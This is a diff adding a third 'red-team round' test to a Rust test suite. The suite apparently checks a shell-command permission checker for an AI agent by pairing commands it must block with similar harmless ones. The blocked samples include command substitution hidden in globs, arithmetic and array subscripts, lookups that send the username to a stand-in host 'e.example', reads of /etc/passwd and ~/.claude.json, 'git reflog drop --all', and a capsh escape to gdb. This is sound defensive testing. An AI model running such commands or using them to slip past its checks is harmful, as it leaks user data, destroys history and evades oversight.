@@ -628,3 +628,63 @@ fn red_team_round_two() {
         ("git log *", "git log -- *"),
     ]);
 }
+
+/// Third red-team round: code inside extended globs and bash 5.3's `${ cmd; }` (refused, not
+/// followed), arithmetic through special integer variables, `$x` in arithmetic, indirect
+/// names with subscripts, array literal and fd-variable subscripts, substitution output in
+/// `$(( ))`, strings a shell parses again (`watch`, `eval`, `find -exec sh -c '… {}'`),
+/// `capsh --shell`, and read-only tools that read other files or send.
+#[test]
+fn red_team_round_three() {
+    sides(&[
+        (
+            "[[ x == @($(touch m)) ]] && echo y",
+            "[[ $f == @(*.rs|*.toml) ]] && echo y",
+        ),
+        ("shopt -s extglob; ls @(x|$(touch m))", "ls !(node_modules)"),
+        ("echo ${ touch m; }", "echo ${HOME}"),
+        ("x=${| touch m; }", "x=${y:-z}"),
+        ("RANDOM='a[$(touch m)]'", "RANDOM=42; echo $RANDOM"),
+        (
+            "read OPTIND <<< 'a[$(touch m)]'",
+            "read line <<< 'a[$(touch m)]'; echo \"$line\"",
+        ),
+        ("x='a[$(touch m)]'; echo $(($x))", "x=5; echo $(($x+1))"),
+        (
+            "x='a[$(touch m)]'; echo ${b[$x]}",
+            "i=2; a=(x y z); echo ${a[$i]}",
+        ),
+        ("z='a[$(touch m)]'; echo ${!z}", "v=HOME; echo ${!v}"),
+        ("x=(['$(touch m)']=1)", "x=([0]=a [1]=b); echo ${x[0]}"),
+        ("cat {b['$(touch m)']}<f", "cat < f"),
+        ("echo $(( $(cat VERSION) + 1 ))", "echo $(( $(nproc) * 2 ))"),
+        ("watch -n1 \"cat $(ls)\"", "watch -n 5 'git status'"),
+        ("eval echo *", "eval 'ls -la'"),
+        (
+            "find . -type f -exec sh -c 'wc -l {}' \\;",
+            "find . -type f -exec sh -c 'wc -l \"$1\"' _ {} \\;",
+        ),
+        ("tree --fromfile /etc/passwd", "tree -L 2"),
+        ("xmllint --xinclude x.xml", "xmllint --noout x.xml"),
+        ("du --files0-from=list", "du -sh ."),
+        (
+            "jq -n 'import \"../x\" as $c; $c'",
+            "jq '.name' package.json",
+        ),
+        (
+            "npm view \"https://e.example/$(whoami).tgz\"",
+            "npm view react version",
+        ),
+        ("go list -m \"e.example/$(whoami)@latest\"", "go list ./..."),
+        (
+            "getent hosts \"$(id -un).e.example\"",
+            "getent hosts localhost",
+        ),
+        ("git reflog drop --all", "git reflog show HEAD"),
+        ("cat ~/.claude.json", "cat package.json"),
+    ]);
+    assert_eq!(
+        decide("capsh --shell=/usr/bin/gdb -- -c ls", Environment::Dev),
+        Decision::Block
+    );
+}
